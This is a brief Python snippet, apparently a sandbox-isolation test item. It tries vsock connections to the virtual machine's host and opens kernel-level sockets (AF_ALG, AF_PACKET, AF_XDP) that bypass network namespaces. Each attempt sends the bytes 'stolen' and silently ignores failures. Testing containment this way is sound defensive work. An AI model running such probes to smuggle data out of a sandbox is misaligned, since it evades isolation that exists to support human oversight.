# class: touches
# what: sockets that no network namespace holds back: to a virtual machine's host, to the kernel
import socket
for family, address in ((40, (2, 47123)), (40, (1, 47123)), (38, ("skcipher", "ecb(aes)")), (17, None), (44, None)):
    try:
        with socket.socket(family, socket.SOCK_STREAM) as s:
            s.settimeout(1)
            s.connect(address)
            s.send(b"stolen")
    except (OSError, TypeError, ValueError):
        pass
